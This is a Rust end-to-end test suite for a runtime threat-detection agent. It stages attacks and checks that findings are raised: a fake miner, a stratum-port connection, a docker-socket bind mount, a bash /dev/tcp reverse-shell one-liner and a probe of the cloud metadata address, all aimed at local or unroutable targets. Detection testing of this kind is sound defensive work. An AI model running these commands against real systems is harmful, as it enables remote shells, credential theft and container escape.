//! What the README promises: an attack done, a finding made.

use std::{os::unix::net::UnixListener, time::Instant};

use rampart_e2e::{Agent, Bundle, sh, spawn_named, text};
use serde_json::Value as Json;

fn technique(finding: &Json, id: &str) -> bool {
    let ids = finding.pointer("/threat/technique/id").and_then(Json::as_array);
    ids.is_some_and(|ids| ids.iter().any(|found| found == id))
}

fn frameworks(finding: &Json) -> usize {
    finding.pointer("/rampart/controls").and_then(Json::as_object).map_or(0, serde_json::Map::len)
}

fn ancestors(finding: &Json) -> Vec<u64> {
    let list = finding.pointer("/rampart/ancestry").and_then(Json::as_array).cloned().unwrap_or_default();
    list.iter().filter_map(|ancestor| ancestor.get("pid")?.as_u64()).collect()
}

#[test]
fn a_miner_is_one_critical_finding() {
    let agent = Agent::start().unwrap();
    let begin = Instant::now();
    let mut miner = spawn_named(agent.as_ref(), "/bin/sleep", "xmrig", &["0.2"]).unwrap();
    let pid = u64::from(miner.id());
    let mine = |finding: &Json| finding.pointer("/process/pid").and_then(Json::as_u64) == Some(pid);
    let finding = agent.wait_for(mine).unwrap();
    println!("found {:?} after it was started", begin.elapsed());
    assert!(technique(&finding, "T1496"), "{finding:#}");
    assert_eq!(text(&finding, "/rampart/severity"), "critical");
    assert!(frameworks(&finding) >= 3, "{finding:#}");
    assert!(ancestors(&finding).contains(&u64::from(std::process::id())), "{finding:#}");
    miner.wait().unwrap();
    let ended = agent.stop(rustix::process::Signal::INT).unwrap();
    assert_eq!(ended.findings.iter().filter(|finding| mine(finding)).count(), 1);
}

#[test]
fn a_stratum_port_is_found_with_its_ancestry() {
    let agent = Agent::start().unwrap();
    let deed = sh("nc 127.0.0.1 3333 || true").unwrap();
    let mined =
        |finding: &Json| technique(finding, "T1496") && ancestors(finding).contains(&u64::from(deed.pid));
    let finding = agent.wait_for(mined).unwrap();
    assert_eq!(text(&finding, "/destination/port"), "3333");
    assert_eq!(text(&finding, "/destination/ip"), "127.0.0.1");
    assert_eq!(text(&finding, "/process/name"), "nc");
    assert_eq!(text(&finding, "/rampart/connect/outcome"), "refused");
    assert!(ancestors(&finding).contains(&u64::from(std::process::id())), "{finding:#}");
}

#[test]
fn a_mounted_runtime_socket_is_an_escape() {
    let agent = Agent::start().unwrap();
    let folder = tempfile::tempdir().unwrap();
    let socket = folder.path().join("docker.sock");
    let _listener = UnixListener::bind(&socket).unwrap();
    let target = folder.path().join("target");
    let script = format!("touch {1}; mount --bind {0} {1}", socket.display(), target.display());
    sh(&format!("unshare -m sh -euc '{script}'")).unwrap();
    let finding = agent.wait_for(|finding| technique(finding, "T1611")).unwrap();
    assert_eq!(text(&finding, "/rampart/mount/source"), socket.to_str().unwrap());
    assert_eq!(text(&finding, "/rampart/mount/target"), target.to_str().unwrap());
    assert!(frameworks(&finding) >= 3, "{finding:#}");
}

#[test]
fn the_same_in_a_container_names_it() {
    let agent = Agent::start().unwrap();
    let bundle = Bundle::new().unwrap();
    let id = format!("rampart-e2e-{}", std::process::id());
    let script = "xmrig; nc 127.0.0.1 3333; touch /tmp/docker.sock /tmp/target; \
                  mount -o bind /tmp/docker.sock /tmp/target";
    let output = bundle.run(&id, script).unwrap();
    let inside = |finding: &Json| text(finding, "/container/id") == id;
    for (what, id) in [("xmrig", "T1496"), ("nc", "T1496"), ("mount", "T1611")] {
        let wanted = |finding: &Json| {
            inside(finding) && technique(finding, id) && text(finding, "/process/args/0") == what
        };
        agent.wait_for(wanted).unwrap_or_else(|error| panic!("{what}: {error}\n{output:?}"));
    }
}

#[test]
fn a_shell_on_a_socket_is_a_reverse_shell() {
    let agent = Agent::start().unwrap();
    // Nobody accepts: the kernel establishes the connection, and reading ends when the listener is gone.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!("bash -c 'exec bash -c true >/dev/tcp/127.0.0.1/{port} 0>&1 2>&1'");
    let deed = sh(&script).unwrap();
    let finding = agent
        .wait_for(|finding| {
            technique(finding, "T1059.004")
                && (ancestors(finding).contains(&u64::from(deed.pid))
                    || text(finding, "/process/pid") == deed.pid.to_string())
        })
        .unwrap();
    assert_eq!(text(&finding, "/process/name"), "bash");
}

#[test]
fn the_metadata_service_is_found_before_it_answers() {
    let agent = Agent::start().unwrap();
    // In a network of its own without a route: the attempt counts, not its outcome.
    sh("unshare -n nc -w 1 169.254.169.254 80 || true").unwrap();
    let finding = agent.wait_for(|finding| technique(finding, "T1552.005")).unwrap();
    assert_eq!(text(&finding, "/destination/ip"), "169.254.169.254");
}
